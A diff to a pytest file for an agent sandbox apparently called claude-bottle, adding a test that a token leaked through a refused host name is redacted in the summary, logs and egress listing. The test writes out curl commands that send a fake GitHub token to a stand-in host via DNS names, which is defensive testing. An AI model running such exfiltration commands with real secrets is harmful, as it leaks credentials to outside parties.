@@ -4,6 +4,8 @@ refused one gets, and that the summary tells the user why."""
 from __future__ import annotations
 
 import hashlib
+import json
+import os
 import secrets
 import subprocess
 import tempfile
@@ -12,6 +14,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.conftest import trust_manifest
 from tests.engine.conftest import cli
 from tests.installed import cli_argv
 from tests.sidecar.conftest import PROXY, Lab
@@ -95,7 +98,7 @@ def test_the_real_claude_code_cli_talks_to_a_lab_api_through_the_sidecar(lab_pro
         "--",
         "sh",
         "-c",
-        'printf "%s" "$LAB_CA" > ~/lab-ca.pem && claude --version && claude -p "say hello"',
+        'printf "%s" "$LAB_CA" | base64 -d > ~/lab-ca.pem && claude --version && claude -p "say hello"',
         cwd=lab_project,
     )
     assert result.returncode == 0, result.stderr
@@ -186,3 +189,48 @@ def test_secret_canary_never_leaks_on_the_host(lab_project: Path, lab: Lab, tmp_
         capture_output=True, text=True,
     )  # fmt: skip
     assert leftovers.stdout == ""
+
+
+def test_a_refused_host_holding_a_secret_is_redacted_in_the_summary_the_log_and_egress(
+    lab_project: Path, lab: Lab, tmp_path: Path
+) -> None:
+    # Issue 20: a host the wall refused, such as ghp_<36 characters>.blocked.test (a
+    # token sent out in a DNS name), was printed and stored verbatim.
+    token = "ghp_" + secrets.token_hex(18)
+    agent = f"leaky-{secrets.token_hex(3)}"
+    manifest = lab_project / "claude-bottle.json"
+    data = json.loads(manifest.read_text())
+    data["agents"][agent] = {"bottle": "lab"}
+    manifest.write_text(json.dumps(data))
+    trust_manifest(manifest)
+    work = tmp_path / "work"
+    work.mkdir()
+    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / "data")}
+    script = (f"curl -sk -m 8 -o /dev/null https://{token}.blocked.test/; "
+              f"curl -s -m 8 -o /dev/null http://x.{token}.blocked.test/; "
+              "curl -s -m 8 -o /dev/null http://blocked.test/; echo sent; sleep 300")  # fmt: skip
+    session = subprocess.Popen(
+        cli_argv("run", "--cwd", "--manifest", str(manifest), agent, "--", "sh", "-c", script),
+        cwd=work, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    try:
+        assert session.stdout is not None
+        assert session.stdout.readline() == "sent\n"
+        listed = cli("egress", agent, "--json", cwd=work)
+        follow = subprocess.Popen(cli_argv("egress", agent, "--follow"), cwd=work, env=env,
+                                  stdout=subprocess.PIPE, text=True)  # fmt: skip
+        assert follow.stdout is not None
+        followed = [follow.stdout.readline() for _ in range(3)]  # what was logged so far comes first
+        follow.terminate()
+        follow.communicate(timeout=30)
+    finally:
+        session.terminate()
+        _, summary = session.communicate(timeout=120)
+    (folder,) = (tmp_path / "data" / "claude-bottle" / "sessions").iterdir()
+    stored = (folder / "egress.jsonl").read_text() + (folder / "session.json").read_text()
+    for shown in (summary, listed.stdout, "".join(followed), stored):
+        assert token not in shown
+        assert "<redacted>.blocked.test" in shown
+        assert "blocked.test" in shown.replace("<redacted>.blocked.test", "")  # the control, shown as it is
+    assert "refused : " in summary
+    assert not any(token in query for query in lab.dns_queries())  # refused before any lookup
